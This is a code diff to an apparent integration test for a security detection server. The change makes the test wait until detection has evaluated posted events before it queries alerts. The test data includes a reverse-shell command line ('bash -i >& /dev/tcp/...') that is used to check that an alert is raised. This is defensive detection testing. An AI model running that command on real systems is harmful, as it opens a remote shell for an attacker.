@@ -46,7 +46,12 @@ function processStart(commandLine: string, executable: string, pid: number, extr
 async function post(events: Record<string, unknown>[]): Promise<void> {
   const reply = await request(eventsUrl(), { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
   assert.equal(reply.status, 200, JSON.stringify(reply.body));
+  // Detection runs just after the acknowledgement; wait until it has evaluated everything posted so far.
+  evaluated += events.length;
+  await waitFor('detection to evaluate the batch', async () => ((await api.get('/api/v1/metrics/detection')).body.eventsEvaluated >= evaluated ? true : undefined));
 }
+
+let evaluated = 0;
 
 async function alerts(query = ''): Promise<any[]> {
   const reply = await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=1000${query}`);
@@ -72,8 +77,11 @@ test('a reverse shell event raises an alert with rule, fields and event id as so
   const benign = processStart('ls -la /srv', '/usr/bin/ls', 4241);
   const event = processStart('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '/usr/bin/bash', 4242);
   await post([benign, event]);
-  // The server stores alerts before it replies to the batch: no waiting needed.
-  const found = (await alerts()).filter((a) => a.eventIds.includes(event['event.id']));
+  // Detection runs right after the acknowledgement: the alert is stored within milliseconds.
+  const found = await waitFor('the reverse shell alert', async () => {
+    const list = (await alerts()).filter((a) => a.eventIds.includes(event['event.id']));
+    return list.length ? list : undefined;
+  });
   assert.equal(found.length, 1, JSON.stringify(await alerts()));
   const alert = found[0];
   assert.match(alert.ruleTitle, /reverse/i);
